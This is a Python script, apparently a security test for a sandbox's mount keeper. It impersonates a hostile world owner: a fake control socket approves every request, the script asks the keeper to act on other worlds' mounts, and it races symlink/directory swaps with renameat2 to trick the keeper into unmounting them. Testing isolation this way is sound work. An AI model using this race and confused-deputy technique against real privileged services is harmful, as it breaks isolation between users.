# SPDX-License-Identifier: Apache-2.0
"""Serves the control socket of a stranger's world, and then asks the keeper of a mount for more than is its
mount's: hostile-owner.py WORLD DEVICE [DIRECTORY LINK]

DEVICE is the minor number of a mount of another world. The last line says what the keeper answered.
With DIRECTORY, in which root mounts on `place`: exchanges DIRECTORY with LINK again and again while the keeper
is asked to unmount.
"""
import ctypes
import json
import os
import signal
import socket
import struct
import sys
import time

world, device = sys.argv[1], int(sys.argv[2])
SECONDS = 4
RENAME_EXCHANGE = 2
AT_FDCWD = -100
DATA, CONTROL = 0, 1
MESSAGE = struct.Struct("=IBBHQ")  # fs/mount/keeper.c
ANSWER = struct.Struct("=Ii")


def serve(connection):
    """Answers yes to every request. Return: the keeper's socket, when it has come."""
    text, keeper = b"", None
    while True:
        data, fds, _, _ = socket.recv_fds(connection, 65536, 8)
        if not data:
            return keeper
        if fds:
            keeper = socket.socket(fileno=fds[2])
        text += data
        *lines, text = text.split(b"\n")
        for line in lines:
            answer = {"id": json.loads(line)["id"], "ok": True, "result": {}}
            connection.sendall(json.dumps(answer).encode() + b"\n")


path = os.path.join(world, "control.sock")
with socket.socket(socket.AF_UNIX) as listener:
    listener.bind(path)
    os.chmod(path, 0o666)
    listener.listen()
    print("serving", flush=True)
    keeper = None
    while not keeper:
        keeper = serve(listener.accept()[0])
keeper.settimeout(10)
count = 0


def ask(what, part, number=0):
    global count
    count += 1
    keeper.sendall(MESSAGE.pack(count, ord(what), part, 0, number))
    return ANSWER.unpack(keeper.recv(64))[1]


def exchange_for_ever(one, other):
    libc = ctypes.CDLL(None)
    while True:
        libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE)


def mounted_on(place):
    """The minor device numbers of the mounts there."""
    with open("/proc/self/mountinfo") as table:
        lines = [line.split() for line in table]
    return [int(line[2].split(":")[1]) for line in lines if line[4] == place]


def ask_while_exchanging(directory, link):
    """Return: how often the keeper was asked while it knew its mount and the name led somewhere."""
    place = directory + "/place"
    mine = mounted_on(place)[0]
    other = os.readlink(link) + "/place"
    busy = os.open(place, os.O_PATH)  # the stranger's own mount must stay, whatever the keeper is asked
    child = os.fork()
    if child == 0:
        exchange_for_ever(directory, link)
    asked = 0
    end = time.monotonic() + SECONDS
    try:
        while time.monotonic() < end and (asked % 16 or mounted_on(other)):
            if ask("m", DATA, mine) == 0:
                asked += 1
                ask("u", DATA)
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    os.close(busy)
    if os.path.islink(directory):
        ctypes.CDLL(None).renameat2(AT_FDCWD, directory.encode(), AT_FDCWD, link.encode(), RENAME_EXCHANGE)
    return asked, ask("m", DATA, mine), ask("r", DATA), len(mounted_on(place))


if len(sys.argv) > 3:
    print(*ask_while_exchanging(sys.argv[3], sys.argv[4]), flush=True)
    sys.exit()
# If the mount point of the control files is gone, a mount with its number may be anywhere.
answers = [ask("r", CONTROL), ask("m", CONTROL, device), ask("a", CONTROL), ask("m", CONTROL, device), ask("r", CONTROL),
           ask("r", DATA), ask("m", DATA, device), ask("a", DATA), ask("m", DATA, device), ask("r", DATA)]
print(*answers, flush=True)
